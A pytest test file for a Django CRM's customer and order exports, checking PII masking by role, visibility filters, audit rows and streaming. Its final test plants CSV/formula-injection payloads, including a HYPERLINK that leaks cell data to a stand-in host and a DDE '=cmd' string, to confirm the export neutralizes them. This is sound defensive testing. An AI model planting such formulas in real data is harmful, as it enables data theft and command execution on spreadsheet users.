"""Exports: the same filters and visibility as the list pages, PII masked without view_pii in every format,
one audit row with the exact count, denials write nothing, and rows stream instead of piling up in memory."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal

import openpyxl
import pyarrow.parquet as pq
import pytest
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from clientwise.commerce import services as commerce_services
from clientwise.commerce.tests.factories import ChannelFactory, ProductFactory, StoreFactory
from clientwise.core.errors import PermissionDenied
from clientwise.core.models import AuditLog
from clientwise.core.testing import assert_error
from clientwise.customers import services as customer_services
from clientwise.customers.filters import CustomerListParams
from clientwise.customers.tests.factories import make_customer
from clientwise.dataio import exports

CUSTOMER_HEADER = ["id", "name", "kind", "member_number", "status", "mobile", "email", "id_number", "province",
                   "city", "owner", "team", "tags", "order_count", "revenue", "first_order_at", "last_order_at",
                   "created_at", "wechat", "address"]


@dataclass
class Data:
    zhang: object  # rep_a's (team A), full PII, tag VIP, 2 orders
    wang: object  # rep_b's (team B), 1 order
    zhao: object  # rep_a's, a prospect without contact data
    store: object
    store2: object
    orders: list


@pytest.fixture
def data(org) -> Data:
    zhang = customer_services.create_customer(
        actor=org.rep_a, mobile="13812345678", email="Zhang.Wei@example.com", tags=["VIP", "团购"],
        data={"name": "张伟", "id_number": "110105199001011234", "city": "上海", "province": "上海",
              "member_number": "M001"})
    customer_services.add_contact_point(actor=org.rep_a, customer_id=zhang.pk, kind="wechat", value="wx_zhangwei88")
    customer_services.add_contact_point(actor=org.rep_a, customer_id=zhang.pk, kind="address",
                                        value="上海市徐汇区漕溪北路88号", province="上海", city="上海")
    wang = make_customer(org.rep_b, "王芳", mobile="13900001111", city="北京")
    zhao = make_customer(org.rep_a, "赵敏", status="prospect")
    store, store2 = StoreFactory(name="徐汇店", code="SH001"), StoreFactory(name="朝阳店", code="BJ001")
    ChannelFactory(code="store", name="门店")
    phone = ProductFactory(sku="PH-1", list_price=Decimal("3999.00"), unit_cost=Decimal("2800.00"))
    case = ProductFactory(sku="CS-1", list_price=Decimal("49.90"), unit_cost=Decimal("12.35"))
    t0 = timezone.now() - dt.timedelta(days=3)
    orders = [
        commerce_services.create_order(actor=org.admin, customer_id=zhang.pk, store_id=store.pk, channel_code="store",
                                       lines=[{"product_id": phone.pk, "quantity": 1}], ordered_at=t0,
                                       number="SO-1", sales_rep_id=org.rep_a.pk),
        commerce_services.create_order(actor=org.admin, customer_id=zhang.pk, store_id=store.pk,
                                       lines=[{"product_id": case.pk, "quantity": 2}],
                                       ordered_at=t0 + dt.timedelta(days=1), number="SO-2"),
        commerce_services.create_order(actor=org.admin, customer_id=wang.pk, store_id=store2.pk,
                                       lines=[{"product_id": case.pk, "quantity": 1}],
                                       ordered_at=t0 + dt.timedelta(days=2), number="SO-3"),
    ]
    for c in (zhang, wang, zhao):
        c.refresh_from_db()
    AuditLog.objects.all().delete()
    return Data(zhang=zhang, wang=wang, zhao=zhao, store=store, store2=store2, orders=orders)


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list]:
    wb = openpyxl.load_workbook(io.BytesIO(body(response)), read_only=True)
    return [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]


def parquet_table(response):
    return pq.read_table(io.BytesIO(body(response)))


def local(value: dt.datetime) -> str:
    return timezone.localtime(value).strftime("%Y-%m-%d %H:%M")


# ----- customers ------------------------------------------------------------------------------------------------


def test_customer_csv_unmasked_for_view_pii_and_masked_otherwise(web_client, org, data):
    z = data.zhang
    rows = csv_rows(web_client(org.admin).get("/data/export/customers.csv", {"q": "张", "headers": "codes"}))
    assert rows[0] == CUSTOMER_HEADER
    assert rows[1:] == [[
        str(z.pk), "张伟", "person", "M001", "active", "+8613812345678", "zhang.wei@example.com", "110105199001011234",
        "上海", "上海", "rep_a", "Team A", "VIP;团购", "2", "4098.80", local(z.first_order_at),
        local(z.last_order_at), local(z.created_at), "wx_zhangwei88", "上海市徐汇区漕溪北路88号"]]

    rows = csv_rows(web_client(org.analyst).get("/data/export/customers.csv", {"q": "张"}))
    assert rows[1][5:8] == ["138****5678", "z***@example.com", "110***********1234"]
    assert rows[1][18:] == ["wx****88", "上海****"]
    text = ",".join(rows[1])
    assert "13812345678" not in text and "zhang.wei@" not in text and "漕溪北路" not in text


def test_customer_xlsx_masked_and_unmasked(web_client, org, data):
    r = web_client(org.admin).get("/data/export/customers.xlsx", {"q": "张", "headers": "codes"})
    assert isinstance(r, FileResponse)
    assert r["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert r["Content-Disposition"].startswith('attachment; filename="customers-')
    rows = xlsx_rows(r)
    assert rows[0] == CUSTOMER_HEADER
    assert rows[1][:8] == [data.zhang.pk, "张伟", "person", "M001", "active", "+8613812345678",
                           "zhang.wei@example.com", "110105199001011234"]
    assert rows[1][13:15] == [2, 4098.8]
    # Excel has no time zones: local wall-clock time.
    first = timezone.localtime(data.zhang.first_order_at).replace(tzinfo=None)
    assert abs(rows[1][15] - first) < dt.timedelta(milliseconds=1)  # Excel keeps milliseconds
    assert rows[1][18:] == ["wx_zhangwei88", "上海市徐汇区漕溪北路88号"]

    rows = xlsx_rows(web_client(org.marketer).get("/data/export/customers.xlsx", {"q": "张"}))
    assert rows[1][5:8] == ["138****5678", "z***@example.com", "110***********1234"]
    assert rows[1][18:] == ["wx****88", "上海****"]


def test_customer_parquet_masked_and_unmasked_with_types(web_client, org, data):
    table = parquet_table(web_client(org.admin).get("/data/export/customers.parquet", {"q": "张"}))
    assert table.column_names == CUSTOMER_HEADER
    assert str(table.schema.field("revenue").type) == "decimal128(14, 2)"
    assert str(table.schema.field("created_at").type) == "timestamp[us, tz=UTC]"
    (row,) = table.to_pylist()
    assert (row["id"], row["mobile"], row["email"], row["id_number"], row["wechat"], row["address"]) == (
        data.zhang.pk, "+8613812345678", "zhang.wei@example.com", "110105199001011234", "wx_zhangwei88",
        "上海市徐汇区漕溪北路88号")
    assert row["revenue"] == Decimal("4098.80") and row["tags"] == "VIP;团购" and row["order_count"] == 2
    assert row["first_order_at"] == data.zhang.first_order_at

    (row,) = parquet_table(web_client(org.analyst).get("/data/export/customers.parquet", {"q": "张"})).to_pylist()
    assert (row["mobile"], row["email"], row["id_number"], row["wechat"], row["address"]) == (
        "138****5678", "z***@example.com", "110***********1234", "wx****88", "上海****")


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_only_visible_rows_and_audit_with_exact_count(web_client, org, data, fmt):
    # manager_a sees team A's customers (张伟, 赵敏) but not rep_b's 王芳.
    r = web_client(org.manager_a).get(f"/data/export/customers.{fmt}")
    assert r.status_code == 200
    if fmt == "csv":
        names = [row[1] for row in csv_rows(r)[1:]]
    elif fmt == "xlsx":
        names = [row[1] for row in xlsx_rows(r)[1:]]
    else:
        names = parquet_table(r).column("name").to_pylist()
    assert sorted(names) == ["张伟", "赵敏"]
    log = AuditLog.objects.get()
    assert (log.actor, log.action, log.object_type) == (org.manager_a, "export.customers", "customers.customer")
    assert log.detail == {"format": fmt, "filters": {}, "count": 2, "masked": False}
    assert r["X-Export-Rows"] == "2"


def test_filters_and_sort_are_the_list_pages(web_client, org, data):
    w = web_client(org.analyst)
    rows = csv_rows(w.get("/data/export/customers.csv", {"city": "北京"}))
    assert [row[1] for row in rows[1:]] == ["王芳"]
    rows = csv_rows(w.get("/data/export/customers.csv", {"status": "prospect"}))
    assert [row[1] for row in rows[1:]] == ["赵敏"]
    rows = csv_rows(w.get("/data/export/customers.csv", {"sort": "-revenue"}))
    assert [row[1] for row in rows[1:]] == ["张伟", "王芳", "赵敏"]
    # A bad filter value is dropped, as on the list page, and the audit row shows what was applied.
    rows = csv_rows(w.get("/data/export/customers.csv", {"status": "nonsense", "q": "王"}))
    assert [row[1] for row in rows[1:]] == ["王芳"]
    details = list(AuditLog.objects.order_by("id").values_list("detail", flat=True))
    assert [d["filters"] for d in details] == [{"city": "北京"}, {"status": "prospect"}, {"sort": "-revenue"},
                                               {"q": "王"}]
    assert [d["count"] for d in details] == [1, 1, 3, 1]


@pytest.mark.parametrize("role", ["rep_a", "agent", "norole"])
@pytest.mark.parametrize("kind", ["customers", "orders"])
def test_denied_is_403_and_writes_nothing(web_client, org, data, role, kind):
    r = web_client(getattr(org, role)).get(f"/data/export/{kind}.csv")
    assert r.status_code == 403
    assert not AuditLog.objects.exists()


def test_anonymous_page_goes_to_login_and_unknown_format_is_404(client, web_client, org, data):
    r = client.get(reverse("dataio:export_customers", args=["csv"]))
    assert r.status_code == 302 and "/accounts/login/" in r["Location"]
    assert web_client(org.admin).get("/data/export/customers.json").status_code == 404
    assert not AuditLog.objects.exists()


def test_service_denies_before_writing_and_rejects_unknown_format(org, data):
    with pytest.raises(PermissionDenied):
        exports.export_customers(actor=org.rep_a, params=CustomerListParams(), fmt="csv")
    with pytest.raises(PermissionDenied):
        exports.export_orders(actor=org.agent, filters=exports.OrderFilterIn(), fmt="xlsx")
    with pytest.raises(exports.DomainError) as exc:
        exports.export_customers(actor=org.admin, params=CustomerListParams(), fmt="pdf")
    assert (exc.value.code, exc.value.field) == ("invalid", "format")
    assert not AuditLog.objects.exists()


def test_csv_streams_rows_lazily_in_chunks(org, data, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 1)
    with CaptureQueriesContext(connection) as ctx:
        export = exports.export_customers(actor=org.admin, params=CustomerListParams(), fmt="csv")
    # Only the count and the audit insert ran: no customer row has been read yet.
    assert not any("customers_customer" in q["sql"] and "COUNT" not in q["sql"].upper() for q in ctx.captured_queries)
    assert AuditLog.objects.get().detail["count"] == 3
    response = exports.as_response(export)
    assert isinstance(response, StreamingHttpResponse)
    chunks = list(response.streaming_content)
    assert len(chunks) == 4  # the header, then one chunk per row with CHUNK = 1
    assert chunks[0].decode().startswith("\ufeffid,name,")


def test_parquet_is_written_in_record_batches(org, data, monkeypatch):
    monkeypatch.setattr(exports, "PARQUET_BATCH", 2)
    export = exports.export_customers(actor=org.admin, params=CustomerListParams(), fmt="parquet")
    meta = pq.ParquetFile(export.file).metadata
    assert (meta.num_rows, meta.num_row_groups) == (3, 2)
    export.file.close()


def test_page_downloads_speak_the_readers_language_and_the_api_keeps_the_codes(web_client, api_client, org, data):
    """Headers and coded values (kind, status) in words on the pages; ?headers=codes, the API and Parquet keep
    the machine names scripts read."""
    from clientwise.accounts.models import User

    rows = csv_rows(web_client(org.admin).get("/data/export/customers.csv", {"q": "张"}))
    assert rows[0][:5] == ["ID", "Name", "Kind", "Member number", "Status"] and rows[0][-2:] == ["WeChat ID",
                                                                                                 "Postal address"]
    assert rows[1][2] == "Person" and rows[1][4] == "Active"
    User.objects.filter(pk=org.admin.pk).update(language="zh-hans")
    rows = xlsx_rows(web_client(org.admin).get("/data/export/customers.xlsx", {"q": "张"}))
    assert rows[0][:3] == ["编号", "姓名/名称", "类型"] and rows[1][2] == "个人" and rows[1][4] == "活跃"
    orders = csv_rows(web_client(org.admin).get("/data/export/orders.csv", {"q": "SO-1"}))
    assert orders[0][:4] == ["编号", "订单号", "下单时间", "状态"] and orders[1][3] == "已完成"
    assert orders[0][-2:] == ["成本", "毛利"]
    assert parquet_table(web_client(org.admin).get("/data/export/customers.parquet")).column_names == CUSTOMER_HEADER
    assert csv_rows(api_client(org.admin).get("exports/customers", {"format": "csv", "q": "张"}))[0] == CUSTOMER_HEADER
    assert len(rows[0]) == len(CUSTOMER_HEADER)  # the same columns in the same order, only named for people


def test_customer_csv_columns_are_stable():
    # Spreadsheets and scripts downstream read these columns by position: change them only deliberately.
    assert tuple(CUSTOMER_HEADER) == (
        "id", "name", "kind", "member_number", "status", "mobile", "email", "id_number", "province", "city",
        "owner", "team", "tags", "order_count", "revenue", "first_order_at", "last_order_at", "created_at",
        "wechat", "address")


# ----- orders ---------------------------------------------------------------------------------------------------


def test_order_exports_mask_mobile_and_show_cost_only_with_the_right(web_client, org, data):
    o1 = data.orders[0]
    rows = csv_rows(web_client(org.admin).get("/data/export/orders.csv", {"q": "SO-1", "headers": "codes"}))
    assert rows[0][-2:] == ["cost", "margin"]
    assert rows[1] == [str(o1.pk), "SO-1", local(o1.ordered_at), "completed", str(data.zhang.pk), "张伟",
                       "+8613812345678", "SH001", "徐汇店", "门店", "rep_a", "CNY", "3999.00", "0.00", "3999.00", "1",
                       "", "", "2800.00", "1199.00"]
    # The analyst may see costs but not PII; the marketer neither.
    rows = xlsx_rows(web_client(org.analyst).get("/data/export/orders.xlsx", {"q": "SO-1", "headers": "codes"}))
    assert rows[1][6] == "138****5678" and rows[0][-2:] == ["cost", "margin"] and rows[1][-1] == 1199
    table = parquet_table(web_client(org.marketer).get("/data/export/orders.parquet", {"q": "SO-1"}))
    assert "cost" not in table.column_names and "margin" not in table.column_names
    (row,) = table.to_pylist()
    assert (row["number"], row["customer_mobile"], row["amount"]) == ("SO-1", "138****5678", Decimal("3999.00"))
    assert row["ordered_at"] == o1.ordered_at


def test_order_export_visibility_filters_and_audit(web_client, org, data):
    r = web_client(org.manager_a).get("/data/export/orders.parquet")
    assert parquet_table(r).column("number").to_pylist() == ["SO-2", "SO-1"]  # newest first, team A only
    r = web_client(org.admin).get("/data/export/orders.csv", {"store_id": data.store2.pk})
    assert [row[1] for row in csv_rows(r)[1:]] == ["SO-3"]
    r = web_client(org.admin).get("/data/export/orders.csv", {"amount_min": "100", "amount_max": "bad"})
    assert [row[1] for row in csv_rows(r)[1:]] == ["SO-1"]
    logs = list(AuditLog.objects.order_by("id"))
    assert [(a.action, a.object_type, a.detail) for a in logs] == [
        ("export.orders", "commerce.order", {"format": "parquet", "filters": {}, "count": 2, "masked": False}),
        ("export.orders", "commerce.order",
         {"format": "csv", "filters": {"store_id": data.store2.pk}, "count": 1, "masked": False}),
        ("export.orders", "commerce.order",
         {"format": "csv", "filters": {"amount_min": "100"}, "count": 1, "masked": False}),
    ]


# ----- API ------------------------------------------------------------------------------------------------------


def test_api_customer_export(api_client, org, data):
    r = api_client(org.analyst).get("exports/customers", {"format": "parquet", "city": "上海"})
    assert r.status_code == 200 and r["Content-Type"] == exports.CONTENT_TYPES["parquet"]
    (row,) = parquet_table(r).to_pylist()
    assert (row["name"], row["mobile"]) == ("张伟", "138****5678")
    assert AuditLog.objects.get(action="export.customers").detail == {"format": "parquet", "filters": {"city": "上海"}, "count": 1,
                                            "masked": True}
    r = api_client(org.admin).get("exports/customers")  # CSV by default, streamed
    assert r.streaming and r["Content-Type"] == "text/csv; charset=utf-8"
    assert len(csv_rows(r)) == 4
    r = api_client(org.admin).get("exports/customers", {"kind": "organization", "status": ""})
    assert csv_rows(r) == [CUSTOMER_HEADER]


def test_api_order_export(api_client, org, data):
    r = api_client(org.admin).get("exports/orders", {"format": "xlsx", "status": "completed"})
    assert r.status_code == 200
    assert [row[1] for row in xlsx_rows(r)[1:]] == ["SO-3", "SO-2", "SO-1"]
    assert AuditLog.objects.get(action="export.orders").detail == {"format": "xlsx", "filters": {"status": "completed"}, "count": 3,
                                            "masked": False}


def test_api_denials_and_bad_input_write_nothing(api_client, org, data):
    assert_error(api_client(None).get("exports/customers"), 401)
    assert_error(api_client(org.rep_a).get("exports/customers"), 403, "permission_denied")
    assert_error(api_client(org.norole).get("exports/orders"), 403, "permission_denied")
    assert_error(api_client(org.admin).get("exports/customers", {"format": "pdf"}), 422, "invalid")
    assert_error(api_client(org.admin).get("exports/orders", {"date_from": "yesterday"}), 422, "invalid")
    assert not AuditLog.objects.filter(action__startswith="export.").exists()


@pytest.mark.parametrize("kind", ["customers", "orders"])
def test_export_menu_keeps_the_list_query_string(rf, org, kind):
    from django.template.loader import render_to_string

    request = rf.get("/x/", {"q": "张", "cursor": "abc", "size": "50"})
    request.user = org.analyst
    html = render_to_string("dataio/export_menu.html", {"kind": kind, "user_can_pii": False}, request=request)
    for fmt in ("csv", "xlsx", "parquet"):
        assert f'href="/data/export/{kind}.{fmt}?q=%E5%BC%A0"' in html
    assert "Personal data is masked" in html


# ----- spreadsheet safety ---------------------------------------------------------------------------------------


def test_formula_like_cells_are_neutralized_in_csv_and_stored_as_text_in_xlsx(web_client, api_client, org, data):
    """A city, a name and the owner's name planted as formulas: CSV cells get the apostrophe mark, XLSX cells are
    text (never a formula), and a phone number written as text is left alone in both."""
    from clientwise.customers.models import Customer

    Customer.objects.filter(pk=data.zhang.pk).update(city='=HYPERLINK("http://example.invalid/?d="&A1,"x")',
                                                     name="@SUM(1+1)")
    org.rep_a.display_name = "=cmd|' /C calc'!A0"  # a rep may set their own display name
    org.rep_a.save(update_fields=["display_name"])
    rows = csv_rows(web_client(org.admin).get("/data/export/customers.csv"))
    (row,) = [r for r in rows[1:] if r[0] == str(data.zhang.pk)]
    assert row[1] == "'@SUM(1+1)"
    assert row[9] == '\'=HYPERLINK("http://example.invalid/?d="&A1,"x")'
    assert row[10] == "'=cmd|' /C calc'!A0"
    assert row[5] == "+8613812345678"  # a plain number as text stays as it is

    for response in (web_client(org.admin).get("/data/export/customers.xlsx"),
                     api_client(org.admin).get("exports/customers", {"format": "xlsx"})):
        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]
        cells = [c for r in sheet.iter_rows() for c in r]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        (values,) = [[c.value for c in r] for r in sheet.iter_rows(min_row=2) if r[0].value == data.zhang.pk]
        assert values[1] == "@SUM(1+1)" and values[9].startswith("=HYPERLINK(") and values[10] == "=cmd|' /C calc'!A0"

    orders = csv_rows(web_client(org.admin).get("/data/export/orders.csv"))
    assert all(not cell.startswith(("=", "@")) for r in orders for cell in r)
    assert any(cell == "'@SUM(1+1)" for r in orders for cell in r)
